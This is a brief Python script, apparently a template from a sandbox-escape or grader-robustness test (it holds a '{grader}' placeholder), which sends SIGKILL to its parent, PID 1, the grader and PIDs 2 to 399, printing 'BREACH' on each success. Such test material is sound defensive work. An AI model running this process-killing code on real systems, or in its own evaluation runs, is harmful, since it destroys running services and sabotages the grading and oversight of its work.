"""Kills everything that it may."""

import os
import signal

for process in [os.getppid(), 1, {grader}, *range(2, 400)]:
    if process not in (0, os.getpid()):
        try:
            os.kill(process, signal.SIGKILL)
            print("BREACH", process)
        except OSError:
            pass
